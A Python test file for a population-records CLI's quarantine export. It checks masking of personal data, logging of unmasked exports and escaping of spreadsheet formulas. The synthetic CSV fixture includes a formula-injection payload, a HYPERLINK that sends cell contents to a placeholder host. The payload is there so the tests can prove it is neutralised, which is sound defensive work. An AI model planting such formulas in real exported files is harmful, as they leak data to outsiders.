"""toandan quarantine export: masked unless a purpose is told and logged, harmless in a spreadsheet."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from python_calamine import CalamineWorkbook

from toandan.cli.app import root
from toandan.errors import BadInput, NotAllowed, Usage

SNAPSHOT = "population/15@2025-07-01/2025-10-31/v001"
FORMULA = '=HYPERLINK("http://x.example/?"&A1)'
CONTENT = f"""national_id,full_name,birth_date,sex,commune,residence_kind,phone
010190000001,Nguyễn Văn A,1990-01-05,male,02923,permanent,0912345678
010190000002,"{FORMULA.replace('"', '""')}",1991-02-06,nữ,02923,permanent,+84987654321
010190000003,@Lê Thị C,1992-03-07,female,99999,permanent,-1
010190000004,Lê Thị D,1992-03-07
"""
CLEAR = ("--unmasked", "--purpose", "Gửi công an xã đối chiếu", "--by", "Cán bộ A")


@pytest.fixture
def environ(tmp_path: Path) -> dict[str, str]:
    """An office whose lake holds one snapshot with three rows in quarantine."""
    (tmp_path / "people.csv").write_text(CONTENT, encoding="utf-8")
    found = {"TOANDAN_HOME": str(tmp_path / "home"), "TOANDAN_KEYS": str(tmp_path / "keys.json")}
    asked(found, "keys", "new")
    words = ("--scope", "15", "--as-of", "2025-10-31", "--synthetic")
    asked(found, "intake", "population", str(tmp_path / "people.csv"), *words)
    return found


def asked(environ: dict[str, str], *words: str) -> Result:
    return CliRunner(env=environ).invoke(root, words, standalone_mode=False, catch_exceptions=False)


def exported(environ: dict[str, str], out: Path, *words: str) -> Result:
    return asked(environ, "quarantine", "export", SNAPSHOT, "--out", str(out), *words)


def rows_of(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def test_masked_by_default_with_reason_and_what_to_do(environ: dict[str, str], tmp_path: Path) -> None:
    out = tmp_path / "rows.csv"
    assert "3 rows of" in exported(environ, out).stdout
    first, second, third = rows_of(out)
    assert {name: first[name] for name in ("row_n", "file", "line", "code")} == {
        "row_n": "2",
        "file": "people.csv",
        "line": "3",
        "code": "value_not_allowed",
    }
    assert first["reason_vi"] == "giá trị không thuộc danh mục cho phép"
    assert first["do_vi"] == "dùng giá trị trong danh mục của cột"
    assert (first["national_id"], second["national_id"]) == ("••••••••••02", "••••••••••03")
    assert third["raw"] == "32 characters, not shown"
    text = out.read_text(encoding="utf-8-sig")
    assert not any(personal in text for personal in ("010190000002", "Thị", "87654321", "HYPERLINK"))
    assert out.stat().st_mode & 0o777 == 0o600
    assert not (tmp_path / "home" / "access.jsonl").exists()
    beside = tmp_path / "rows.csv.READ-ME.txt"
    assert "SYNTHETIC" in beside.read_text(encoding="utf-8")
    assert beside.stat().st_mode & 0o777 == 0o600


def test_in_clear_it_is_logged_first(environ: dict[str, str], tmp_path: Path) -> None:
    out = tmp_path / "rows.csv"
    exported(environ, out, *CLEAR, "--code", "unknown_commune")
    (row,) = rows_of(out)
    assert (row["national_id"], row["birth_date"]) == ("010190000003", "1992-03-07")
    assert "PERSONAL DATA" in (tmp_path / "rows.csv.READ-ME.txt").read_text(encoding="utf-8")
    log = tmp_path / "home" / "access.jsonl"
    assert log.stat().st_mode & 0o777 == 0o600
    (entry,) = json.loads(asked(environ, "quarantine", "log", "--json").stdout)["entries"]
    assert {name: entry[name] for name in ("by", "purpose", "snapshot", "rows_n", "codes")} == {
        "by": "Cán bộ A",
        "purpose": "Gửi công an xã đối chiếu",
        "snapshot": SNAPSHOT,
        "rows_n": 1,
        "codes": {"unknown_commune": 1},
    }
    assert "0101" not in log.read_text("utf-8")
    exported(environ, tmp_path / "again.csv", *CLEAR)
    assert len(log.read_text("utf-8").splitlines()) == 2
    assert asked(environ, "quarantine", "log").stdout.count("Gửi công an xã") == 2


def test_a_masked_file_that_was_corrected_comes_back(environ: dict[str, str], tmp_path: Path) -> None:
    out = tmp_path / "rows.csv"
    exported(environ, out)
    out.write_text(out.read_text("utf-8-sig").replace("99999", "02926"), "utf-8")
    answer = json.loads(asked(environ, "quarantine", "resubmit", SNAPSHOT, str(out), "--json").stdout)
    assert (answer["corrects"], answer["snapshot"]) == (SNAPSHOT, SNAPSHOT.replace("v001", "v002"))
    counts = [answer[name] for name in ("sent_n", "received_n", "accepted_n", "quarantined_n")]
    assert counts == [3, 4, 2, 2]
    again = asked(environ, "quarantine", "resubmit", SNAPSHOT, str(out)).stdout
    assert "taken back already" in again


def test_a_torn_line_of_the_log_takes_no_other_with_it(environ: dict[str, str], tmp_path: Path) -> None:
    log = tmp_path / "home" / "access.jsonl"
    exported(environ, tmp_path / "one.csv", *CLEAR)
    with log.open("a", encoding="utf-8") as file:
        file.write('{"schema": "toandan/acc')
    exported(environ, tmp_path / "two.csv", *CLEAR)
    answer = json.loads(asked(environ, "quarantine", "log", "--json").stdout)
    assert (len(answer["entries"]), answer["broken_lines_n"]) == (2, 1)


@pytest.mark.parametrize("name", ["rows.csv", "rows.xlsx"])
def test_nothing_in_it_runs_in_a_spreadsheet(environ: dict[str, str], tmp_path: Path, name: str) -> None:
    out = tmp_path / name
    exported(environ, out, *CLEAR)
    if name.endswith(".csv"):
        cells = [cell for row in rows_of(out) for cell in row.values()]
    else:
        book = CalamineWorkbook.from_path(out)
        assert book.sheet_names == ["READ ME", "quarantine"]
        sheet = book.get_sheet_by_name("quarantine")
        cells = [str(cell) for row in sheet.to_python() for cell in row]
        assert {type(cell) for row in sheet.to_python() for cell in row} == {str}
        assert any("PERSONAL DATA" in str(row[0]) for row in book.get_sheet_by_name("READ ME").to_python())
    assert f"'{FORMULA}" in cells
    assert "'@Lê Thị C" in cells
    assert "'+84987654321" in cells
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []


@pytest.mark.parametrize(
    ("name", "words", "problem"),
    [
        ("rows.csv", ("--unmasked",), (Usage, "--by says nothing")),
        ("rows.csv", ("--unmasked", "--by", "A"), (Usage, "--purpose says nothing")),
        (
            "rows.csv",
            ("--unmasked", "--by", "A", "--purpose", "of 010190000007"),
            (BadInput, "--purpose is no place for a number"),
        ),
        ("rows.csv", ("--purpose", "x"), (Usage, "a masked export needs no purpose")),
        ("rows.ods", (), (BadInput, "neither CSV nor XLSX")),
        ("people.csv", (), (BadInput, "people.csv is there already")),
        ("none/rows.csv", (), (BadInput, "there is no such folder")),
        ("home/lake/rows.csv", CLEAR, (NotAllowed, "may not lie in it")),
        ("rows.csv", ("--code", "id_shared"), (BadInput, "there are no such rows")),
    ],
)
def test_what_is_refused_writes_nothing(
    environ: dict[str, str],
    tmp_path: Path,
    name: str,
    words: tuple[str, ...],
    problem: tuple[type[Exception], str],
) -> None:
    before = {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()}
    with pytest.raises(problem[0], match=problem[1]):
        exported(environ, tmp_path / name, *words)
    assert {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()} == before
